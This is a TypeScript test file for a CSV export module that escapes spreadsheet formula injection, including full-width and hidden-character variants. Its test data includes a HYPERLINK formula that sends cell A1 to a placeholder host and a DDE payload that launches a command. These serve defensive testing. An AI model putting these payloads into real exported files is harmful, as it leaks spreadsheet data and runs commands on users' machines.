import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readCsvRow } from '../../src/report/verify/read-csv-row.ts';
import { escapeFormula, unescapeFormula } from '../../src/rows/csv-formula.ts';
import { formatCsvRow } from '../../src/rows/csv-row.ts';
import { rowOf } from '../report/verify/row-text.ts';

const FORMULAS = [
  '=HYPERLINK("https://a.example/?"&A1,"x")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\uFF1D1+1',
  '\uFF0B1',
  '\uFF0D1',
  '\uFF201',
  ' =1',
  '\u00A0=1',
  '\u200B=1',
  '\uFEFF=1',
  "'=1",
  "''=1",
];

const cellsOf = (line: string): string[] => parse(line)[0] ?? [];

describe('a CSV row', () => {
  it.each(FORMULAS)('escapes the formula %j in each column, unless it is to be kept', (formula) => {
    const row = rowOf(formula, {
      text: formula,
      model: formula,
      partition: formula,
      error: { code: formula, message: '' },
    });
    const columns = [0, 2, 5, 9];
    const escaped = cellsOf(formatCsvRow(row));
    const kept = cellsOf(formatCsvRow(row, 'keep'));
    expect(columns.map((column) => escaped[column])).toEqual(columns.map(() => `'${formula}`));
    expect(escaped[12]).toBe(`'${formula}: `);
    expect(columns.map((column) => kept[column])).toEqual(columns.map(() => formula));
  });

  it.each(['\t=1+1', '\r=1+1', '\n=1+1'])('has no formula after the control character of %j', (text) => {
    expect(cellsOf(formatCsvRow(rowOf('a', { text })))[2]).toBe("' =1+1");
  });

  it.each(['a=1', 'XB LK-7346', "l'été", "'", '', '12.50', '1-2', '{"a":"=1"}', '(+49) 30'])(
    'leaves %j as it is',
    (text) => {
      expect(cellsOf(formatCsvRow(rowOf('a', { text })))[2]).toBe(text);
    },
  );

  it('has no text that begins like a formula, and verify reads what was meant', () => {
    const text = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc
        .array(fc.constantFrom("'", '=', '+', '-', '@', '\uFF1D', ' ', '\t', 'a', ',', ';', '"'))
        .map((all) => all.join('')),
    );
    fc.assert(
      fc.property(text, text, (file, read) => {
        const row = rowOf(file, { text: read });
        const line = formatCsvRow(row);
        expect(
          cellsOf(line).filter((cell) => /^[\s\p{C}]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]/u.test(cell)),
        ).toEqual([]);
        const [keptFile, , keptText] = cellsOf(formatCsvRow(row, 'keep'));
        expect(readCsvRow(line)).toMatchObject({ kind: 'row', row: { file: keptFile, text: keptText } });
      }),
      { numRuns: 500 },
    );
  });

  it('quotes a semicolon, at which spreadsheets of some countries split', () => {
    expect(formatCsvRow(rowOf('a', { text: 'x;=1+1' }))).toContain('"x;=1+1"');
  });
});

it('unescaping gives back what was escaped', () => {
  fc.assert(
    fc.property(fc.oneof(fc.constantFrom(...FORMULAS), fc.string({ unit: 'binary' })), (text) => {
      expect(unescapeFormula(escapeFormula(text))).toBe(text);
    }),
  );
});
